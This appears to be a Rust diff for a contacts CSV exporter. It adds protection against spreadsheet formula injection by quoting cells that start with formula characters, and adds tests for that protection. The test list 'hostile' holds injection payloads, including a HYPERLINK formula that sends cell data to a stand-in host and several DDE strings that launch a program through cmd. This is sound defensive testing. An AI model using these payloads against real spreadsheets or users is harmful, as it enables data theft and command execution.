@@ -10,14 +10,62 @@
 //! several numbers separated by ` ::: ` (as Google exports them) or by line ends.
 //! Export writes LDAP attribute names, one column per number kind, several
 //! numbers of a kind joined by ` ::: `; reading reads that back.
+//!
+//! A cell a spreadsheet would run as a formula (one starting with `=`, `+`, `-`,
+//! `@`, a tab or a carriage return) is exported behind a `'`, which spreadsheets
+//! show as text and hide; reading drops that `'` again. Phone numbers as people
+//! write them (`+49 30 1234567`) stay as they are: without a letter, a spreadsheet
+//! can call no function and reach no other cell.
 
 use super::fields::{Builder, Field, field_of, key_of, kind_of_label};
 use super::{Entries, NotAList, Position, ReadList};
 use crate::contacts::{Contact, PhoneKind};
+use std::borrow::Cow;
 use std::io::Write;
 
 /// How several values of one kind are written in one cell.
 pub const MULTI_SEPARATOR: &str = " ::: ";
+
+/// What makes a spreadsheet read a cell as a formula (OWASP's list).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether `cell` is exported behind a `'`: it starts with a formula character,
+/// or with `'`s before one (so that reading, which drops one `'` there, gives it
+/// back as it was).
+fn needs_guard(cell: &str) -> bool {
+    cell.trim_start_matches('\'').starts_with(FORMULA_START)
+}
+
+/// Whether every number of a number cell is written as people write phone numbers:
+/// an optional `+`, then a digit or `(`, then only digits, spaces and `-` `(` `)`
+/// `.` `/`.
+fn is_plain_number(cell: &str) -> bool {
+    cell.split(MULTI_SEPARATOR).all(|number| {
+        let rest = number.strip_prefix('+').unwrap_or(number);
+        rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
+            && rest
+                .chars()
+                .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '-' | '(' | ')' | '.' | '/'))
+    })
+}
+
+/// A cell as exported: behind a `'` when a spreadsheet would run it, unless it is
+/// a plain phone number in a number column.
+fn guarded(cell: &str, number_column: bool) -> Cow<'_, str> {
+    if needs_guard(cell) && !(number_column && is_plain_number(cell)) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// A cell as read: the `'` an export put before a formula character is dropped.
+fn unguarded(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_guard(rest) => rest,
+        _ => cell,
+    }
+}
 
 /// Where a column goes.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -328,7 +376,7 @@ fn row(record: &::csv::ByteRecord, columns: &[Option<Column>]) -> Result<Contact
     for (cell, column) in record.iter().zip(columns) {
         let Some(column) = column else { continue };
         // The document is text already: a cell is valid UTF-8.
-        let value = std::str::from_utf8(cell).unwrap_or_default();
+        let value = unguarded(std::str::from_utf8(cell).unwrap_or_default());
         match column {
             Column::Field(field) => b.set(*field, value),
             Column::TypedNumber(n) => typed.push((*n, value)),
@@ -342,7 +390,9 @@ fn row(record: &::csv::ByteRecord, columns: &[Option<Column>]) -> Result<Contact
     Ok(b.finish())
 }
 
-/// Writes contacts as CSV with LDAP attribute names; `import` reads it back.
+/// Writes contacts as CSV with LDAP attribute names; `import` reads it back. A
+/// cell a spreadsheet would run as a formula is written behind a `'` (see the
+/// module's documentation).
 pub fn export_csv(contacts: &[Contact], out: &mut impl Write) -> std::io::Result<()> {
     let mut w = csv::Writer::from_writer(out);
     let mut header = vec![
@@ -367,12 +417,14 @@ pub fn export_csv(contacts: &[Contact], out: &mut impl Write) -> std::io::Result
     header.extend(kinds.iter().map(|(name, _)| *name));
     w.write_record(&header)?;
     for c in contacts {
-        let mut record: Vec<String> = c.text_fields().map(str::to_string).to_vec();
-        record.extend(
-            kinds
-                .iter()
-                .map(|(_, kind)| c.numbers(*kind).collect::<Vec<_>>().join(MULTI_SEPARATOR)),
-        );
+        let mut record: Vec<String> = c
+            .text_fields()
+            .map(|cell| guarded(cell, false).into_owned())
+            .to_vec();
+        record.extend(kinds.iter().map(|(_, kind)| {
+            let cell = c.numbers(*kind).collect::<Vec<_>>().join(MULTI_SEPARATOR);
+            guarded(&cell, true).into_owned()
+        }));
         w.write_record(&record)?;
     }
     w.flush()
@@ -550,5 +602,106 @@ mod tests {
         let back = read(std::str::from_utf8(&out).unwrap()).unwrap();
         assert!(back.skipped.is_empty());
         assert_eq!(back.contacts, contacts);
+    }
+
+    /// The cells of an export, row by row (header first).
+    fn cells(csv: &[u8]) -> Vec<Vec<String>> {
+        let mut reader = ::csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(csv);
+        reader
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect()
+    }
+
+    #[test]
+    fn formulas_are_exported_behind_a_quote_and_read_back_as_they_were() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "'=already quoted",
+            "''@twice",
+        ];
+        let mut contacts = Vec::new();
+        for (i, text) in hostile.iter().enumerate() {
+            let mut c = Contact {
+                id: format!("c{i}"),
+                display_name: text.to_string(),
+                title: text.to_string(),
+                ..Contact::default()
+            };
+            for (kind, number) in [
+                (PhoneKind::Work, "+49 30 1234567"),
+                (PhoneKind::Work, "+49 (0)30 765-43.21"),
+                (PhoneKind::Mobile, "+1 555 0100"),
+                (PhoneKind::Home, "-030 1"),
+                (PhoneKind::Fax, "=1+2"),
+                (PhoneKind::Pager, "+1 555 CALL"),
+            ] {
+                c.phones.push(crate::contacts::Phone {
+                    kind,
+                    number: number.to_string(),
+                });
+            }
+            contacts.push(c);
+        }
+        let mut out = Vec::new();
+        export_csv(&contacts, &mut out).unwrap();
+        let rows = cells(&out);
+        let header = &rows[0];
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+        for (row, text) in rows[1..].iter().zip(hostile) {
+            assert_eq!(row[column("displayName")], format!("'{text}"));
+            assert_eq!(row[column("title")], format!("'{text}"));
+            // Phone numbers as people write them are left as they are.
+            assert_eq!(
+                row[column("telephoneNumber")],
+                "+49 30 1234567 ::: +49 (0)30 765-43.21"
+            );
+            assert_eq!(row[column("mobile")], "+1 555 0100");
+            // A number cell that is not a plain number is guarded too.
+            assert_eq!(row[column("facsimileTelephoneNumber")], "'=1+2");
+            assert_eq!(row[column("pager")], "'+1 555 CALL");
+            assert_eq!(row[column("homePhone")], "'-030 1");
+        }
+        // What a spreadsheet would run: a cell starting with a formula character
+        // that is not a plain number in a number column.
+        let numbers = column("telephoneNumber");
+        for row in &rows[1..] {
+            for (i, cell) in row.iter().enumerate() {
+                let runs =
+                    cell.starts_with(FORMULA_START) && !(i >= numbers && is_plain_number(cell));
+                assert!(!runs, "{cell:?} would run in a spreadsheet");
+            }
+        }
+        let back = read(std::str::from_utf8(&out).unwrap()).unwrap();
+        assert!(back.skipped.is_empty(), "{:?}", back.skipped);
+        assert_eq!(back.contacts, contacts);
+    }
+
+    #[test]
+    fn the_guard_covers_tabs_and_carriage_returns_and_spares_plain_text() {
+        for cell in ["\t=1+2", "\r=1+2", "@x", "-x", "+x", "=x"] {
+            assert_eq!(guarded(cell, false), format!("'{cell}"));
+            assert_eq!(guarded(cell, true), format!("'{cell}"));
+            assert_eq!(unguarded(&guarded(cell, false)), cell);
+        }
+        for cell in ["Ada", "ada@example.com", "O'Brien", "'quoted", "", "1+2"] {
+            assert_eq!(guarded(cell, false), cell);
+            assert_eq!(unguarded(cell), cell);
+        }
+        // A plain number is spared in a number column only.
+        assert_eq!(guarded("+49 30 1234567", true), "+49 30 1234567");
+        assert_eq!(guarded("+49 30 1234567", false), "'+49 30 1234567");
+        // A quote before a formula character in a file not made by sop is dropped too.
+        let out = read("cn,telephoneNumber\n'=Ada,'+49 30 1\n").unwrap();
+        assert_eq!(out.contacts[0].display_name, "=Ada");
+        assert_eq!(
+            out.contacts[0].numbers(PhoneKind::Work).collect::<Vec<_>>(),
+            ["+49 30 1"]
+        );
     }
 }
